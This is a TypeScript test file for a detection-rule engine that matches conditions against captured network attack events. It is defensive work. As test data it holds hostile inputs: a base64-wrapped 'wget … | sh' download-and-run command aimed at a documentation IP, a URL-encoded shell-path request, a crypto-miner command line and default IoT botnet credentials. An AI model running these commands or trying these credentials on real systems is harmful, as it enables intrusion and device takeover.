// Compiled conditions against real event views: every target, every operator, nocase,
// combinators, latin1 bytes, the bounds on values, and RE2's linear time on hostile input.

import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import RE2 from 're2';
import { describe, expect, it } from 'vitest';
import { BUILTIN_RULES_DIR } from '../classifier.js';
import { examplePayload } from '../examples.js';
import { loadRules } from './load.js';
import { compileCondition } from './compile.js';
import { conditionSchema, type Condition } from './schema.js';
import {
  EventView, MAX_MATCH_PAYLOAD_BYTES, MAX_TARGET_CHARS, MAX_VALUE_CHARS, MAX_VALUES_PER_TARGET,
  type ViewedEvent,
} from './view.js';

const GET =
  'GET /cgi-bin/luci?x=1 HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: Mozila/5.0\r\n\r\n';

function event(over: Partial<ViewedEvent> & { payload?: Buffer | string } = {}): ViewedEvent {
  const { payload = GET, ...rest } = over;
  const bytes = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload;
  return {
    payload_b64: bytes.toString('base64'), protocol: 'http', transport: 'tcp', dst_port: 80,
    commands: [], credentials: [],
    fields: { method: 'GET', path: '/cgi-bin/luci', headers: [['host', '203.0.113.10'],
      ['user-agent', 'Mozila/5.0']] },
    ...rest,
  };
}

const CORPUS = fileURLToPath(new URL('../../../test/fixtures/corpus/attacks.jsonl',
  import.meta.url));

function corpusTexts(): string[] {
  return readFileSync(CORPUS, 'utf8').trim().split('\n').map((line) =>
    Buffer.from((JSON.parse(line) as { payload_b64: string }).payload_b64, 'base64')
      .toString('latin1'));
}

const shippedRules = () => readdirSync(BUILTIN_RULES_DIR).some((f) => /\.ya?ml$/.test(f))
  ? loadRules([BUILTIN_RULES_DIR]).rules.map((r) => r.rule) : [];

function exampleTexts(): string[] {
  return shippedRules().flatMap((rule) => [...rule.examples, ...rule.counter_examples ?? []])
    .map((example) => examplePayload(example).toString('latin1'));
}

function shippedPatterns(): { target: string; pattern: string }[] {
  const out: { target: string; pattern: string }[] = [];
  const walk = (c: Condition): void => {
    if (c.kind === 'all' || c.kind === 'any') c.of.forEach(walk);
    else if (c.kind === 'not') walk(c.of);
    else if (c.kind === 'regex') out.push({ target: c.target, pattern: c.pattern });
  };
  shippedRules().forEach((rule) => walk(rule.match));
  return out;
}

function holds(condition: unknown, over: Parameters<typeof event>[0] = {}): boolean {
  const matcher = compileCondition(conditionSchema.parse(condition));
  return matcher(new EventView(event(over)));
}

describe('targets', () => {
  it('payload: the stored bytes, one character per byte', () => {
    const smb = Buffer.from('00000085ff534d4272', 'hex');
    expect(holds({ in: 'payload', contains: '\xffSMBr' }, { payload: smb })).toBe(true);
    expect(holds({ in: 'payload', regex: '^\\x00\\x00\\x00.\\xffSMB' }, { payload: smb }))
      .toBe(true);
    expect(holds({ in: 'payload', regex: '\\xfeSMB' }, { payload: smb })).toBe(false);
    expect(holds({ in: 'payload', prefix: 'GET /cgi-bin/' })).toBe(true);
  });

  it('payload: no value at all when nothing was sent', () => {
    expect(holds({ in: 'payload', exists: false }, { payload: '' })).toBe(true);
    expect(holds({ in: 'payload', exists: true }, { payload: '' })).toBe(false);
  });

  it('payload: rules see only the first MAX_MATCH_PAYLOAD_BYTES', () => {
    const early = Buffer.concat([Buffer.from('MARK'), Buffer.alloc(MAX_MATCH_PAYLOAD_BYTES)]);
    const late = Buffer.concat([Buffer.alloc(MAX_MATCH_PAYLOAD_BYTES), Buffer.from('MARK')]);
    expect(holds({ in: 'payload', contains: 'MARK' }, { payload: early })).toBe(true);
    expect(holds({ in: 'payload', contains: 'MARK' }, { payload: late })).toBe(false);
  });

  it('every target stays within MAX_TARGET_CHARS and MAX_VALUES_PER_TARGET', () => {
    const commands = Array.from({ length: 40 }, (_, i) => `${i}`.padEnd(MAX_VALUE_CHARS, 'x'));
    const view = new EventView(event({ commands }));
    for (const target of ['commands', 'text']) {
      const total = view.values(target).reduce((sum, v) => sum + v.length, 0);
      expect(total).toBe(MAX_TARGET_CHARS);
    }
    const many = Array.from({ length: 2 * MAX_VALUES_PER_TARGET }, (_, i) => `c${i}`);
    expect(new EventView(event({ commands: many })).values('commands'))
      .toHaveLength(MAX_VALUES_PER_TARGET);
  });

  it('text: the payload, each command, and their decoded layers', () => {
    const encoded = Buffer.from('wget http://198.51.100.7/x.sh').toString('base64');
    const commands = [`echo ${encoded} | base64 -d | sh`];
    expect(holds({ in: 'text', contains: 'wget http://198.51.100.7/x.sh' }, { commands }))
      .toBe(true);
    expect(holds({ in: 'commands', contains: 'wget http://' }, { commands })).toBe(false);
    expect(holds({ in: 'text', prefix: 'GET /cgi-bin/' }, { commands })).toBe(true);
    expect(holds({ in: 'text', equals: commands[0] }, { commands })).toBe(true);
    const url =
      'GET /shell?cd%20%2Ftmp%3B%20wget%20http%3A%2F%2F198.51.100.7%2Fm HTTP/1.1\r\n\r\n';
    expect(holds({ in: 'text', contains: 'wget http://198.51.100.7/m' }, { payload: url }))
      .toBe(true);
  });

  it('commands, username and password: each entry', () => {
    const over = { commands: ['uname -a', 'cd /tmp'],
      credentials: [{ username: 'root', password: 'xc3511' },
        { username: 'admin', password: '' }] };
    expect(holds({ in: 'commands', equals: 'cd /tmp' }, over)).toBe(true);
    expect(holds({ in: 'username', equals: 'admin' }, over)).toBe(true);
    expect(holds({ in: 'password', equals: ['vizxv', 'xc3511'] }, over)).toBe(true);
    expect(holds({ in: 'password', equals: 'root' }, over)).toBe(false);
    expect(holds({ in: 'username', exists: false })).toBe(true);
  });

  it('field: a dot path; arrays give each element, scalars their string form', () => {
    const fields = {
      path: '/picsdesc.xml', rpc_batch: 3, incomplete: false,
      smb1_dialects: ['PC NETWORK PROGRAM 1.0', 'NT LM 0.12'],
      inner: { protocol: 'http', fields: { path: '/.env' } },
      requests: [{ method: 'POST', path: '/a' }, { method: 'GET', path: '/b' }],
      tls: { alpn: ['h2', 'http/1.1'] },
    };
    expect(holds({ in: 'field:path', equals: '/picsdesc.xml' }, { fields })).toBe(true);
    expect(holds({ in: 'field:rpc_batch', equals: 3 }, { fields })).toBe(true);
    expect(holds({ in: 'field:incomplete', equals: 'false' }, { fields })).toBe(true);
    expect(holds({ in: 'field:smb1_dialects', equals: 'NT LM 0.12' }, { fields })).toBe(true);
    expect(holds({ in: 'field:inner.fields.path', equals: '/.env' }, { fields })).toBe(true);
    expect(holds({ in: 'field:requests.path', equals: '/b' }, { fields })).toBe(true);
    expect(holds({ in: 'field:tls.alpn', equals: 'h2' }, { fields })).toBe(true);
    expect(holds({ in: 'field:inner', contains: '"path":"/.env"' }, { fields })).toBe(true);
    expect(holds({ in: 'field:inner.nothing', exists: false }, { fields })).toBe(true);
    expect(holds({ in: 'field:path.length', exists: false }, { fields })).toBe(true);
  });

  it('header: every value of the header, from every request of the connection', () => {
    const fields = {
      headers: [['host', 'a.example.com'], ['x-forwarded-for', '192.0.2.5'],
        ['x-forwarded-for', '192.0.2.6']],
      requests: [{ headers: [['user-agent', 'zgrab/0.x']] }],
    };
    expect(holds({ in: 'header:x-forwarded-for', equals: '192.0.2.6' }, { fields })).toBe(true);
    expect(holds({ in: 'header:user-agent', prefix: 'zgrab/' }, { fields })).toBe(true);
    expect(holds({ in: 'header:cookie', exists: false }, { fields })).toBe(true);
    expect(holds({ in: 'header:host', exists: true }, { fields: { headers: 'junk' } }))
      .toBe(false);
  });

  it('protocol, port and transport: the event\'s own values as strings', () => {
    expect(holds({ in: 'protocol', equals: 'http' })).toBe(true);
    expect(holds({ in: 'port', equals: [80, 8080] })).toBe(true);
    expect(holds({ in: 'port', equals: '8080' })).toBe(false);
    expect(holds({ in: 'transport', equals: 'udp' }, { transport: 'udp' })).toBe(true);
  });
});

describe('operators', () => {
  it('equals, contains and prefix take one value or a list', () => {
    expect(holds({ in: 'field:method', equals: ['POST', 'GET'] })).toBe(true);
    expect(holds({ in: 'field:method', equals: 'get' })).toBe(false);
    expect(holds({ in: 'header:user-agent', contains: ['curl', 'Mozila'] })).toBe(true);
    expect(holds({ in: 'header:user-agent', prefix: 'Mozilla' })).toBe(false);
  });

  it('nocase compares case-insensitively; regexes use (?i)', () => {
    expect(holds({ in: 'field:method', equals: 'get', nocase: true })).toBe(true);
    expect(holds({ in: 'payload', contains: 'USER-AGENT: MOZILA', nocase: true })).toBe(true);
    expect(holds({ in: 'header:user-agent', prefix: 'mozila/', nocase: true })).toBe(true);
    expect(holds({ in: 'payload', regex: 'user-agent: mozila' })).toBe(false);
    expect(holds({ in: 'payload', regex: '(?i)user-agent: mozila' })).toBe(true);
  });

  it('regex: RE2 syntax, unanchored unless anchored', () => {
    expect(holds({ in: 'field:path', regex: 'luci$' })).toBe(true);
    expect(holds({ in: 'field:path', regex: '^luci' })).toBe(false);
    expect(holds({ in: 'payload', regex: 'Host: (?:\\d{1,3}\\.){3}\\d{1,3}\\r\\n' })).toBe(true);
  });

  it('bytes: the payload holds these bytes', () => {
    const payload = Buffer.from('0300002f2ae00000000000436f6f6b69653a', 'hex');
    expect(holds({ in: 'payload', bytes: '03 00 00 2f' }, { payload })).toBe(true);
    expect(holds({ in: 'payload', bytes: '436F6F6B6965' }, { payload })).toBe(true);
    expect(holds({ in: 'payload', bytes: '03 00 00 30' }, { payload })).toBe(false);
  });

  it('exists: at least one value, or none', () => {
    expect(holds({ in: 'field:method', exists: true })).toBe(true);
    expect(holds({ in: 'field:body', exists: true })).toBe(false);
    expect(holds({ in: 'field:body', exists: false })).toBe(true);
  });
});

describe('combinators', () => {
  const yes = { in: 'protocol', equals: 'http' };
  const no = { in: 'protocol', equals: 'ssh' };

  it('all holds when every part does; any when one does; not inverts', () => {
    expect(holds({ all: [yes, yes] })).toBe(true);
    expect(holds({ all: [yes, no] })).toBe(false);
    expect(holds({ any: [no, yes] })).toBe(true);
    expect(holds({ any: [no, no] })).toBe(false);
    expect(holds({ not: no })).toBe(true);
    expect(holds({ not: yes })).toBe(false);
  });

  it('nests', () => {
    expect(holds({ all: [yes, { any: [no, { not: no }] }, { not: { all: [yes, no] } }] }))
      .toBe(true);
  });
});

describe('regexes look for a required literal first', () => {
  it('skips values without the literal and still matches values with it', () => {
    expect(holds({ in: 'payload', regex: 'Mozila/\\d' })).toBe(true);
    expect(holds({ in: 'payload', regex: 'Mozila/\\D' })).toBe(false);
    expect(holds({ in: 'payload', regex: 'Firefox/\\d' })).toBe(false);
  });

  it('lets RE2 decide on values that are not ASCII, where case folds differently', () => {
    // RE2 folds the Kelvin sign (U+212A) with k; lower-casing does not.
    const commands = ['./\u212ainsing -o pool.example.com:443'];
    expect(holds({ in: 'commands', regex: '(?i)kinsing -o' }, { commands })).toBe(true);
    expect(holds({ in: 'commands', regex: '(?i)kinsing -x' }, { commands })).toBe(false);
  });

  it('gives what RE2 alone gives, for every shipped pattern on the corpus and the examples',
    () => {
      const views = [...corpusTexts(), ...exampleTexts()]
        .map((text) => new EventView(event({ payload: text })));
      const differ: string[] = [];
      let matched = 0;
      for (const { pattern } of shippedPatterns()) {
        const re = new RE2(pattern);
        const matcher = compileCondition({ kind: 'regex', target: 'text', pattern });
        for (const view of views) {
          const alone = view.regexInputs('text').some((input) => re.test(input));
          if (alone) matched++;
          if (matcher(view) !== alone) differ.push(`${pattern} on ${view.payload.slice(0, 60)}`);
        }
      }
      expect(differ).toStrictEqual([]);
      // Skipped while rules/ holds no rule file; then every shipped pattern matches something.
      if (shippedPatterns().length > 0) expect(matched).toBeGreaterThan(shippedPatterns().length);
    }, 60_000);
});

describe('regexes run in linear time', () => {
  // A backtracking engine takes longer than the age of the universe on these; RE2 does not.
  const CATASTROPHIC = ['(a+)+$', '(a|aa)+b', '(a*)*b', '^(([a-z])+.)+[A-Z]([a-z])+$', '(x+x+)+y'];
  /** Generous: RE2 takes well under a millisecond; a backtracking engine would never finish. */
  const BOUND_MS = 200;

  it.each(CATASTROPHIC)('%s on 64 KiB of "a" finishes at once', (regex) => {
    const payload = Buffer.alloc(MAX_MATCH_PAYLOAD_BYTES, 'a');
    payload[payload.length - 1] = 0x21;
    const started = performance.now();
    holds({ in: 'payload', regex }, { payload });
    holds({ in: 'text', regex }, { payload });
    expect(performance.now() - started).toBeLessThan(BOUND_MS);
  });
});
